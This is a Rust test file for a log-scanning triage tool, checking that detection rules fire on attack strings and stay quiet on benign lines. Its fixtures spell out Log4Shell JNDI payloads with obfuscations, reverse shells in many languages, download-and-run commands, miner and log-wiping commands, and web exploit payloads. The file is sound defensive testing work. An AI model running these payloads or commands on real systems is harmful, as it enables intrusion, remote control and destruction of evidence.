//! Log scanning: signature families (table tests), buffer-size and chunking invariance,
//! json-file partial records, huge lines and binary data, logs inside filesystem tars,
//! and the `logs` / `rules` commands.

use std::io::Cursor;

use ctriage::evidence::discover;
use ctriage::logscan::framing::{json_file::JsonFile, text::Text};
use ctriage::logscan::stream::{scan_artifact, scan_stream};
use ctriage::logscan::{scan_logs, Engine, ScanConfig};
use ctriage::model::Locator;

use crate::util::{run, run_json, write_files};

fn engine() -> Engine {
    Engine::builtin().unwrap()
}

fn rule_ids(e: &Engine, line: &str) -> Vec<String> {
    e.evaluate(line.as_bytes()).iter().map(|m| e.rules()[m.rule].id.clone()).collect()
}

/// (line, rules that must fire) and lines where none of `family` may fire.
fn table(family: &str, positives: &[(&str, &str)], negatives: &[&str]) {
    let e = engine();
    for (line, rule) in positives {
        let ids = rule_ids(&e, line);
        assert!(ids.iter().any(|i| i == rule), "{family}: {rule} did not fire on {line:?} (got {ids:?})");
    }
    for line in negatives {
        let ids = rule_ids(&e, line);
        let bad: Vec<&String> = ids.iter().filter(|i| i.starts_with(family)).collect();
        assert!(bad.is_empty(), "{family}: fired on benign {line:?}: {bad:?}");
    }
}

#[test]
fn jndi_family() {
    table(
        "log4j",
        &[
            ("${jndi:ldap://x.example/a}", "log4j.jndi-lookup"),
            ("GET /?q=%2524%25257Bjndi%253Aldap%253A%252F%252Fx%25257D", "log4j.jndi-lookup"),
            (r"User-Agent: \u0024\u007bjndi:rmi://x/a}", "log4j.jndi-lookup"),
            (r"ua=\x24\x7bjndi:dns://x}", "log4j.jndi-lookup"),
            ("&#36;&#123;jndi:ldap://x/a}", "log4j.jndi-lookup"),
            ("${${::-j}ndi:rmi://", "log4j.jndi-lookup"),
            ("${jnd${upper:ı}:ldap://x/a}", "log4j.jndi-lookup"),
            ("X-Api-Version: ${${lower:j}${upper:n}${lower:d}i:${lower:l}dap://x:1389/Basic/Command/Base64/aWQ=}", "log4j.jndi-lookup"),
            ("WARN Error looking up JNDI resource [ldap://192.0.2.1:1389/a]", "log4j.jndi-lookup-error"),
            // Octal escapes (`\044` is `$`), alone and mixed with `\\44` and `\u0024`.
            (r"X-Api-Version: \044{jndi:ldap://x.example/a}", "log4j.jndi-lookup"),
            (r"ua=\044{j\\44{lower:n}di:\u0024{lower:l}dap://x.example/a}", "log4j.jndi-lookup"),
            // Split payloads: lookups spelling `jndi:` with no outer `${` and nothing after.
            ("User-Agent: j${::-nD}i${::-:}", "log4j.jndi-assembled"),
            ("X-Forwarded-For: j${k8s:k5:-ND}i${sd:k5:-:}", "log4j.jndi-assembled"),
            (r"Referer: j${main:\k5:-Nd}i${spring:k5:-:}", "log4j.jndi-assembled"),
            ("GET /?a=jn${date:}di${date:':'} HTTP/1.1", "log4j.jndi-assembled"),
        ],
        &[
            "${user.home}/conf ${catalina.base}",
            "jndi:ldap://x.example/a mentioned in prose",
            "WARN JNDI lookups are disabled (log4j2.enableJndiLookup=false)",
            "Message lookups are disabled: formatMsgNoLookups=true ${jndi}",
            "TYPE: %%1938 VERSION: 2",
        ],
    );
}

#[test]
fn reverse_shell_family() {
    table(
        "shell.reverse",
        &[
            ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "shell.reverse.dev-tcp"),
            ("nc -e /bin/sh 10.0.0.1 4242", "shell.reverse.netcat"),
            ("busybox nc 10.0.0.1 4444 -e /bin/sh", "shell.reverse.netcat"),
            ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "shell.reverse.fifo"),
            ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "shell.reverse.socat"),
            ("python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"10.0.0.1\",4444));pty.spawn(\"sh\")'", "shell.reverse.python"),
            ("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\")'", "shell.reverse.perl"),
            ("php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "shell.reverse.php"),
            ("ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"10.0.0.1\",4444))'", "shell.reverse.ruby"),
            ("powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream()\"", "shell.reverse.powershell"),
            ("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"}'", "shell.reverse.awk"),
            ("TF=$(mktemp -u);mkfifo $TF && telnet 10.0.0.1 4444 0<$TF | /bin/sh 1>$TF", "shell.reverse.fifo"),
            ("GET /cgi-bin/x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4242%200%3E%261", "shell.reverse.dev-tcp"),
        ],
        &[
            "rsync -e ssh /src host:/dst",
            "sync -c done; func -c ok; once -e x",
            "connected to socket /var/run/docker.sock",
            "kernel: nc: connection refused",
            "sshd[42]: Accepted publickey for deploy from 10.0.0.5 port 51234",
        ],
    );
}

#[test]
fn download_encoded_and_miner_families() {
    let b64 = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA+JjE=";
    let java = format!("bash -c {{echo,{b64}}}|{{base64,-d}}|{{bash,-i}}");
    table(
        "shell",
        &[
            ("curl -fsSL http://203.0.113.9/x.sh | bash", "shell.download-pipe"),
            ("wget -q -O- http://203.0.113.9/x | sh", "shell.download-pipe"),
            ("wget http://x/k -O /tmp/k; chmod +x /tmp/k; /tmp/k", "shell.download-chmod"),
            (
                "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
                "shell.download-powershell",
            ),
            (&java, "shell.base64-exec"),
            (&java, "shell.reverse.dev-tcp"),
            ("echo aWQ7dW5hbWUgLWE= | base64 -d | sh", "shell.base64-exec"),
        ],
        &["curl -s http://localhost:8080/health", "base64 encoded token issued", "history of changes"],
    );
    table(
        "miner",
        &[
            ("./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4A --donate-level 1", "miner.stratum"),
            ("./xmrig -o pool.supportxmr.com:443", "miner.software"),
            ("connecting to gulf.moneroocean.stream:10128", "miner.pool"),
        ],
        &["undetermined mining of data", "Determine the miner's license"],
    );
    table(
        "antiforensics",
        &[
            ("history -c && rm -f ~/.bash_history", "antiforensics.history"),
            ("unset HISTFILE; export HISTSIZE=0", "antiforensics.history"),
            ("rm -rf /var/log/*", "antiforensics.log-wipe"),
            ("echo > /var/log/auth.log", "antiforensics.log-wipe"),
            ("cat /dev/null > /var/log/wtmp", "antiforensics.log-wipe"),
        ],
        &["logrotate: rotating /var/log/syslog", "history saved", "journalctl -u nginx"],
    );
}

#[test]
fn webapp_family() {
    table(
        "web",
        &[
            ("Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "web.struts2.ognl"),
            ("GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/ HTTP/1.1", "web.struts2.ognl"),
            (r#"{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x:9999/E","autoCommit":true}}"#, "web.fastjson.autotype"),
            ("GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "web.spring4shell"),
            ("spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"id\")", "web.spring.function-routing"),
            ("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system", "web.thinkphp.rce"),
            ("POST /wls-wsat/CoordinatorPortType HTTP/1.1", "web.weblogic"),
            ("GET /pages/createpage.action?queryString=%5cu0027%2b%7b233*233%7d%2b%5cu0027", "web.confluence.ognl-concat"),
            ("Cookie: rememberMe=kPH+bIxk5D2deZiIxcaaaA0kvhjbfq==", "web.shiro.rememberme"),
            ("GET /../../../../etc/passwd HTTP/1.1", "web.path-traversal"),
            ("GET /cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "web.path-traversal"),
            ("GET /uploads/shell.jsp?cmd=id HTTP/1.1", "web.webshell.cmd-param"),
            ("<?php @eval($_POST['pass']);?>", "web.webshell.code"),
            ("POST /x.php z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw==", "web.webshell.chopper"),
            ("GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users", "web.sqli"),
            ("GET /item?id=1' or '1'='1", "web.sqli"),
        ],
        &[
            r#"203.0.113.1 - - [27/Nov/2026:14:00:00 +0000] "GET /static/app.js?v=3 HTTP/1.1" 200 512 "https://example.com/" "Mozilla/5.0""#,
            r#"{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"x"}"#,
            "GET /docs/../index.html HTTP/1.1",
            "select a union of sets",
        ],
    );
}

#[test]
fn code_shells_need_a_socket_and_a_shell_in_code_not_in_stack_frames() {
    // Every line here must give no hit at all: stack frames, library and runtime messages
    // that name sockets, process builders or shells without being a reverse shell.
    let json_trace = r#"{"@timestamp":"2026-11-27T14:19:42.131Z","level":"ERROR","stack_trace":"java.net.ConnectException: Connection refused\n\tat java.net.PlainSocketImpl.socketConnect(Native Method)\n\tat java.net.Socket.connect(Socket.java:589)\n\tat sun.nio.ch.SocketChannelImpl.connect(SocketChannelImpl.java:624)\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n\tat java.lang.Runtime.exec(Runtime.java:620)\n"}"#;
    table(
        "",
        &[],
        &[
            "\tat java.net.Socket.connect(Socket.java:589)",
            "\tat java.net.Socket.connect(Socket.java:538)\n\tat java.net.Socket.<init>(Socket.java:434)",
            "\tat sun.nio.ch.SocketChannelImpl.connect(SocketChannelImpl.java:624)",
            "\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)",
            "\tat java.lang.Runtime.exec(Runtime.java:620)",
            "import java.net.Socket;",
            json_trace,
            "   at System.Net.Sockets.TcpClient.Connect(String hostname, Int32 port)",
            "   at System.Net.Sockets.TcpClient.GetStream()",
            "Error: connect ECONNREFUSED 10.0.0.5:5432 at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1555:16) net.Socket",
            "child_process exited with code 1 (spawned by npm run build)",
            "DBD::mysql: IO::Socket::SSL: SSL connect attempt failed error:0200100D:system library:fopen:Permission denied",
            "PHP Warning:  fsockopen(): unable to connect to smtp.example.com:25 (Connection timed out) in /var/www/system/libraries/Email.php on line 1962",
            "Net::HTTP: Failed to open TCP connection to api.example.com:443 (TCPSocket.open) /usr/lib/ruby/2.7.0/net/http.rb:960:in `initialize': system call error",
            "lua: socket.tcp: connection refused (popen pool exhausted)",
        ],
    );
    // Reverse shells written as code still fire, socket and shell in one record.
    table(
        "shell",
        &[
            (r#"node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});})();'"#, "shell.reverse.node"),
            ("require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')", "shell.reverse.node"),
            ("String cmd=\"/bin/sh\";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);", "shell.reverse.java"),
            ("Socket s=new java.net.Socket(\"10.0.0.1\",4444);Runtime.getRuntime().exec(\"/bin/sh\");", "shell.reverse.java"),
            ("perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'", "shell.reverse.perl"),
            ("ruby -rsocket -e 'c=TCPSocket.new(\"10.0.0.1\",\"4242\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'", "shell.reverse.ruby"),
            ("php -r '$sock=fsockopen(\"10.0.0.1\",4242);`/bin/sh -i <&3 >&3 2>&3`;'", "shell.reverse.php"),
            ("lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"", "shell.reverse.lua"),
            ("Socket.connect(\"10.0.0.1\", 4242).then((socket) { Process.start('/bin/sh', []) });", "shell.code.socket-shell"),
            ("si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)sock;", "shell.code.socket-stdio"),
            ("$c = New-Object -TypeName ('System.Net.Sockets.TCPClient')('10.0.0.1',4242);$s = $c.GetStream()", "shell.reverse.powershell"),
            ("$c=[System.Net.Sockets.TcpClient]::new('10.0.0.1',4242);$s=$c.GetStream();iex $x", "shell.reverse.powershell"),
            ("p = Process.new(m.rstrip, output: Process::Redirect::Pipe, shell: true)", "shell.spawn.code"),
        ],
        &[],
    );
}

#[test]
fn path_traversal_is_a_request_climbing_or_reaching_a_sensitive_file() {
    table(
        "web.path-traversal",
        &[
            ("GET /../../../../etc/passwd HTTP/1.1", "web.path-traversal"),
            ("GET /download?file=..%2f..%2fetc%2fpasswd HTTP/1.1", "web.path-traversal"),
            ("GET /static/%252e%252e/%252e%252e/%252e%252e/etc/shadow HTTP/1.1", "web.path-traversal"),
            ("GET /img?f=....//....//....//etc/passwd HTTP/1.1", "web.path-traversal"),
            (r"GET /view?page=..\..\..\windows\win.ini HTTP/1.1", "web.path-traversal"),
            ("GET /index.php?page=/etc/passwd HTTP/1.1", "web.path-traversal"),
            ("GET /read?u=file:///etc/shadow HTTP/1.1", "web.path-traversal"),
            ("POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "web.path-traversal"),
            ("GET /;/..;/manager/html HTTP/1.1", "web.path-traversal"),
            ("GET /proc/self/environ HTTP/1.1", "web.path-traversal"),
        ],
        &[
            "cat: /etc/shadow: Permission denied",
            "[Wed Nov 27 14:01:05 2026] [error] sh: 1: cannot open /etc/passwd: Permission denied",
            "useradd[311]: new user: name=app, UID=1000, GID=1000, home=/home/app, shell=/bin/sh, from=none",
            "passwd[412]: password for 'app' changed, /etc/shadow updated",
            "GET /docs/../index.html HTTP/1.1",
        ],
    );
}

#[test]
fn a_weaker_rule_of_the_family_yields_to_the_stronger_hit_on_the_same_record() {
    let e = engine();
    let ids = rule_ids(&e, "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1");
    assert!(ids.contains(&"shell.reverse.dev-tcp".to_string()), "{ids:?}");
    assert!(!ids.contains(&"shell.interactive".to_string()), "duplicate next to the reverse shell: {ids:?}");
    // Decoded from base64: the reverse shell inside still supersedes the bare `bash -i`.
    let java = "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA+JjE=}|{base64,-d}|{bash,-i}";
    let ids = rule_ids(&e, java);
    assert!(ids.contains(&"shell.reverse.dev-tcp".to_string()), "{ids:?}");
    assert!(!ids.contains(&"shell.interactive".to_string()), "{ids:?}");
    let ps = "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream();iex $d\"";
    let ids = rule_ids(&e, ps);
    assert!(ids.contains(&"shell.reverse.powershell".to_string()), "{ids:?}");
    assert!(!ids.contains(&"shell.code.socket-shell".to_string()), "{ids:?}");
    let php = "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'";
    assert_eq!(rule_ids(&e, php), vec!["shell.reverse.php".to_string()]);
    // A bare interactive shell or shell spawn keeps its own finding.
    for bare in ["docker exec -it web /bin/bash -i", "sh -i"] {
        assert_eq!(rule_ids(&e, bare), vec!["shell.interactive".to_string()], "{bare}");
    }
    assert_eq!(rule_ids(&e, "perl -e 'exec \"/bin/sh\";'"), vec!["shell.spawn.code".to_string()]);
}

#[test]
fn hit_indicators_are_listed_once_sorted() {
    let dir = tempfile::tempdir().unwrap();
    let line = "198.51.100.23 - - [27/Nov/2026:13:47:05 +0000] \"GET / HTTP/1.1\" 302 398 \"-\" \"${jndi:ldap://198.51.100.23:1389/Exploit}\"\n";
    write_files(dir.path(), &[("access.log", line.as_bytes())]);
    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
    let iocs: Vec<&str> = v["bundles"][0]["log_hits"][0]["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i.as_str().unwrap())
        .collect();
    assert_eq!(
        iocs,
        [
            "endpoint:198.51.100.23:1389",
            "ip:198.51.100.23",
            "port:1389",
            "url:ldap://198.51.100.23:1389/Exploit"
        ]
    );
}

/// A log with attacks on short lines, inside a long line, CRLF, NUL bytes and no final newline.
fn tricky_log() -> Vec<u8> {
    let mut v = Vec::new();
    for i in 0..300 {
        v.extend_from_slice(format!("2026-11-27T14:00:{:02}Z INFO request {i} ok\n", i % 60).as_bytes());
        if i % 37 == 0 {
            v.extend_from_slice(b"2026-11-27T14:01:00Z WARN ua=${jndi:ldap://x.example/a}\r\n");
        }
        if i % 53 == 0 {
            v.extend_from_slice(b"bin\x00\x00ary\xff\xfe nc -e /bin/sh 10.0.0.1 4242 \x00\n");
        }
    }
    // A 5000-byte line: payloads inside its first, second and last 1024-byte record, and one
    // straddling the 2048 cut (never seen, whatever the buffer).
    let mut long = vec![b'a'; 5000];
    long[100..100 + 30].copy_from_slice(b"bash -i >& /dev/tcp/1.2.3.4/4 ");
    long[1100..1100 + 15].copy_from_slice(b"stratum+tcp://p");
    long[2040..2040 + 15].copy_from_slice(b"stratum+tcp://q");
    long[4949..4949 + 16].copy_from_slice(b" history -c;ls x");
    v.extend_from_slice(&long);
    v.push(b'\n');
    v.extend_from_slice(b"tail without newline ${jndi:rmi://y/b}");
    v
}

fn tuples(scan: &ctriage::logscan::StreamScan, e: &Engine) -> Vec<(String, u64, u64)> {
    let mut t: Vec<(String, u64, u64)> = scan
        .hits
        .iter()
        .map(|h| (e.rules()[h.rule].id.clone(), h.locator.line.unwrap(), h.locator.offset.unwrap()))
        .collect();
    t.sort();
    t
}

#[test]
fn same_hits_whatever_the_buffer_size() {
    let e = engine();
    let data = tricky_log();
    let loc = Locator::artifact("t.log");
    let mut reference: Option<Vec<(String, u64, u64)>> = None;
    for buf in [1025, 1100, 2047, 4096, 9999, 65536, 1 << 20] {
        let cfg = ScanConfig { buf_size: buf, max_record: 1024, ..Default::default() };
        // A reader that returns few bytes at a time too.
        let s = scan_stream(Cursor::new(data.clone()), &Text, &e, &cfg, &loc, 0);
        let t = tuples(&s, &e);
        assert_eq!(s.newlines, data.iter().filter(|&&b| b == b'\n').count() as u64);
        match &reference {
            None => reference = Some(t),
            Some(r) => assert_eq!(&t, r, "buffer {buf}"),
        }
    }
    let r = reference.unwrap();
    let jndi_lines: Vec<u64> = r.iter().filter(|t| t.0 == "log4j.jndi-lookup").map(|t| t.1).collect();
    assert_eq!(jndi_lines.len(), 10, "{r:?}");
    assert_eq!(
        r.iter().filter(|t| t.0 == "shell.reverse.netcat").count(),
        6,
        "NUL bytes must not stop the scan"
    );
    assert!(r.iter().any(|t| t.0 == "shell.reverse.dev-tcp"));
    assert!(r.iter().any(|t| t.0 == "antiforensics.history"));
    // One stratum hit per line (the first record); the one across the cut is not seen.
    assert_eq!(r.iter().filter(|t| t.0 == "miner.stratum").count(), 1);
    // The tail without newline is the last line.
    let last = r.iter().map(|t| t.1).max().unwrap();
    assert!(r.iter().any(|t| t.0 == "log4j.jndi-lookup" && t.1 == last));
}

#[test]
fn parallel_chunks_give_the_same_hits_as_one_stream() {
    let e = engine();
    let dir = tempfile::tempdir().unwrap();
    let mut data = Vec::new();
    while data.len() < 5 << 20 {
        data.extend_from_slice(
            b"203.0.113.9 - - [27/Nov/2026:14:00:00 +0000] \"GET /a HTTP/1.1\" 200 5 \"-\" \"curl\"\n",
        );
        if data.len() % 7919 < 90 {
            data.extend_from_slice(b"x ${jndi:ldap://evil.example/a}\n");
        }
    }
    let p = dir.path().join("big.log");
    std::fs::write(&p, &data).unwrap();
    let bundle = discover(&p);
    let a = &bundle.artifacts[0];
    let streamed = scan_stream(Cursor::new(data.clone()), &Text, &e, &ScanConfig::default(), &a.locator(), 0);
    let cfg = ScanConfig { parallel_min: 1 << 20, ..Default::default() };
    let chunked = scan_artifact(a, &Text, &e, &cfg);
    assert!(!streamed.hits.is_empty());
    assert_eq!(tuples(&chunked, &e), tuples(&streamed, &e));
    assert_eq!(chunked.newlines, streamed.newlines);
}

/// A json-file log over 5 MiB with messages Docker split into 16 KiB parts (a JNDI payload
/// straddling two parts, a stderr record between them), placed with its first part across
/// the first chunk's cut (`across`: the parallel read must not see the parts apart) or only
/// inside chunks.
fn split_json_log(across: bool) -> Vec<u8> {
    let mut msg = "x".repeat(16_384 - 10);
    msg.push_str("${jndi:ldap://split.example/a}");
    msg.push_str(&"y".repeat(40_000 - msg.len()));
    let split = |at: usize| {
        let t = format!("2026-11-27T14:{:02}:{:02}.1Z", at / 60 % 60, at % 60);
        let mut s = json_record(&msg[..16_384], "stdout", &t);
        s.push_str(&json_record("between\n", "stderr", &t));
        s.push_str(&json_record(&msg[16_384..32_768], "stdout", &t));
        s.push_str(&json_record(&format!("{}\n", &msg[32_768..]), "stdout", &t));
        s
    };
    let mut data = Vec::new();
    let mut i = 0usize;
    while data.len() < 5 << 20 {
        i += 1;
        let near_cut = data.len() + 200 > (1 << 20) && data.len() < (1 << 20);
        if (across && near_cut) || i % 9_000 == 4_500 {
            data.extend_from_slice(split(i).as_bytes());
        }
        let t = format!("2026-11-27T13:{:02}:{:02}.000000001Z", i / 60 % 60, i % 60);
        data.extend_from_slice(json_record("GET /health 200\n", "stdout", &t).as_bytes());
    }
    data
}

#[test]
fn json_file_parts_give_the_same_hits_in_parallel_chunks_as_in_one_stream() {
    let e = engine();
    for across in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        let data = split_json_log(across);
        let p = dir.path().join("c-json.log");
        std::fs::write(&p, &data).unwrap();
        let bundle = discover(&p);
        let a = &bundle.artifacts[0];
        let streamed =
            scan_stream(Cursor::new(data.clone()), &JsonFile, &e, &ScanConfig::default(), &a.locator(), 0);
        let cfg = ScanConfig { parallel_min: 1 << 20, ..Default::default() };
        let chunked = scan_artifact(a, &JsonFile, &e, &cfg);
        let joined = tuples(&streamed, &e).into_iter().filter(|t| format!("{t:?}").contains("jndi")).count();
        assert!(joined >= 2, "the split payloads are found joined (across {across})");
        assert_eq!(tuples(&chunked, &e), tuples(&streamed, &e), "across {across}");
        assert_eq!(chunked.newlines, streamed.newlines);
        assert_eq!(format!("{:?}", chunked.span), format!("{:?}", streamed.span));
    }
}

fn json_record(log: &str, stream: &str, time: &str) -> String {
    format!(
        "{{\"log\":{},\"stream\":\"{stream}\",\"time\":\"{time}\"}}\n",
        serde_json::to_string(log).unwrap()
    )
}

#[test]
fn json_file_partial_records_are_joined_per_stream() {
    let e = engine();
    // A 40 000-byte message split by Docker into 16 KiB parts; the payload straddles the
    // first cut. An stderr record interleaves.
    let mut msg = "x".repeat(16_384 - 10);
    msg.push_str("${jndi:ldap://split.example/a}");
    msg.push_str(&"y".repeat(40_000 - msg.len()));
    let parts: Vec<&str> = [&msg[..16_384], &msg[16_384..32_768], &msg[32_768..]].to_vec();
    let mut log = String::new();
    log.push_str(&json_record(parts[0], "stdout", "2026-11-27T14:00:00.1Z"));
    log.push_str(&json_record("unrelated \u{3c}b\u{3e}\n", "stderr", "2026-11-27T14:00:00.2Z"));
    log.push_str(&json_record(parts[1], "stdout", "2026-11-27T14:00:00.3Z"));
    log.push_str(&json_record(&format!("{}\n", parts[2]), "stdout", "2026-11-27T14:00:00.4Z"));
    log.push_str(&json_record(
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n",
        "stderr",
        "2026-11-27T14:00:01.123456789",
    ));
    // A short record without newline (a process's last output) is complete, not a part.
    log.push_str(&json_record("exit ${jndi:ldap://short.example/a}", "stdout", "2026-11-27T14:00:02Z"));
    log.push_str(&json_record("next ${jndi:ldap://next.example/b}\n", "stdout", "2026-11-27T14:00:03Z"));
    let s = scan_stream(
        Cursor::new(log.into_bytes()),
        &JsonFile,
        &e,
        &ScanConfig::default(),
        &Locator::artifact("c-json.log"),
        0,
    );
    let jndi: Vec<_> = s.hits.iter().filter(|h| e.rules()[h.rule].id == "log4j.jndi-lookup").collect();
    assert_eq!(jndi.len(), 3);
    let hosts: Vec<_> = jndi.iter().map(|h| h.found.jndi.as_ref().unwrap().host.clone().unwrap()).collect();
    assert_eq!(hosts, ["split.example", "short.example", "next.example"]);
    assert_eq!(jndi[0].locator.line, Some(1));
    assert_eq!(jndi[0].stream.as_deref(), Some("stdout"));
    assert_eq!(jndi[0].time.unwrap().to_iso(), "2026-11-27T14:00:00.100000000Z");
    assert_eq!(jndi[0].found.jndi.as_ref().unwrap().host.as_deref(), Some("split.example"));
    let shell = s.hits.iter().find(|h| e.rules()[h.rule].id == "shell.reverse.dev-tcp").unwrap();
    assert_eq!(shell.locator.line, Some(5));
    assert_eq!(shell.time.unwrap().to_iso(), "2026-11-27T14:00:01.123456789Z");
}

#[test]
fn huge_line_is_scanned_in_bounded_records() {
    let e = engine();
    let mut data = vec![b'A'; 20 << 20];
    let mid = 10 << 20;
    data[mid..mid + 33].copy_from_slice(b"${jndi:ldap://deep.example/a}    ");
    let end = data.len() - 40;
    data[end..end + 29].copy_from_slice(b"stratum+tcp://pool.example:3 ");
    let s = scan_stream(Cursor::new(data), &Text, &e, &ScanConfig::default(), &Locator::artifact("h"), 0);
    let ids: Vec<&str> = s.hits.iter().map(|h| e.rules()[h.rule].id.as_str()).collect();
    assert!(ids.contains(&"log4j.jndi-lookup") && ids.contains(&"miner.stratum"), "{ids:?}");
    assert!(s.hits.iter().all(|h| h.excerpt.len() <= 400 && h.locator.line == Some(1)));
}

fn tar_with(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut g = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    g.write_all(data).unwrap();
    g.finish().unwrap()
}

#[test]
fn scan_finds_logs_inside_an_export_and_rotated_json_logs() {
    let dir = tempfile::tempdir().unwrap();
    let access = b"198.51.100.4 - - [27/Nov/2026:13:00:00 +0000] \"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fcb.example%2Fx%7D HTTP/1.1\" 200 1 \"-\" \"-\"\n";
    let export = tar_with(&[
        ("etc/passwd", b"root:x:0:0::/root:/bin/bash\n"),
        ("var/log/nginx/access.log", access),
        (
            "var/log/nginx/access.log.2.gz",
            &gzip(b"Nov 27 12:00:00 h app: curl http://203.0.113.5/a.sh | sh\n"),
        ),
        (
            "usr/local/tomcat/logs/catalina.out",
            b"27-Nov-2026 13:30:00.000 SEVERE x: ${jndi:rmi://cb.example/y}\n",
        ),
    ]);
    let old = json_record("wget -qO- http://203.0.113.5/m | sh\n", "stdout", "2026-11-27T10:00:00Z");
    let cur =
        json_record("sh -c 'xmrig -o stratum+tcp://pool.example:3333'\n", "stdout", "2026-11-27T11:00:00Z");
    write_files(
        dir.path(),
        &[("export.tar", &export), ("c/abc-json.log", cur.as_bytes()), ("c/abc-json.log.1", old.as_bytes())],
    );
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(code & 1, 1, "critical findings set exit bit 0");
    let b = &v["bundles"][0];
    let hits = b["log_hits"].as_array().unwrap();
    let find = |rule: &str, member: &str| {
        hits.iter()
            .find(|h| {
                h["rule"] == rule
                    && h["locator"]["members"].as_array().is_some_and(|m| m.iter().any(|x| x == member))
            })
            .unwrap_or_else(|| panic!("no {rule} in {member}: {hits:#?}"))
    };
    let h = find("log4j.jndi-lookup", "var/log/nginx/access.log");
    assert_eq!(h["locator"]["artifact"], "export.tar");
    assert_eq!(h["jndi"]["host"], "cb.example");
    assert_eq!(h["time"], "2026-11-27T13:00:00.000000000Z");
    find("shell.download-pipe", "var/log/nginx/access.log.2.gz");
    let t = find("log4j.jndi-lookup", "usr/local/tomcat/logs/catalina.out");
    assert_eq!(t["time"], "2026-11-27T13:30:00.000000000Z");
    assert!(hits.iter().any(|h| h["rule"] == "miner.stratum" && h["stream"] == "stdout"));
    assert!(hits
        .iter()
        .any(|h| h["locator"]["artifact"] == "c/abc-json.log.1" && h["rule"] == "shell.download-pipe"));
    // IOCs per bundle: the callback domain carried by two hits, the request source IP.
    let iocs = b["log_indicators"].as_array().unwrap();
    let cb = iocs.iter().find(|i| i["type"] == "domain" && i["value"] == "cb.example").unwrap();
    assert_eq!(cb["count"], 2);
    assert_eq!(cb["first_seen"], "2026-11-27T13:00:00.000000000Z");
    assert_eq!(cb["last_seen"], "2026-11-27T13:30:00.000000000Z");
    assert!(iocs.iter().any(|i| i["value"] == "198.51.100.4" && i["roles"][0] == "request-source"));
    // Nothing followed the JNDI requests: they are attempts (never a compromise), listed
    // with the proof from both logs, and log-hit timeline events.
    let f: Vec<_> =
        b["attempts"].as_array().unwrap().iter().filter(|a| a["rule"] == "log.log4j.jndi-lookup").collect();
    assert!(!f.is_empty(), "{:#}", b["attempts"]);
    assert!(f.iter().all(|a| a["outcome"] == "unconfirmed"), "{f:#?}");
    let members: Vec<&str> = f
        .iter()
        .flat_map(|a| a["evidence"].as_array().unwrap().iter())
        .filter_map(|l| l["members"][0].as_str())
        .collect();
    assert!(members.contains(&"var/log/nginx/access.log"), "{members:?}");
    assert!(members.contains(&"usr/local/tomcat/logs/catalina.out"), "{members:?}");
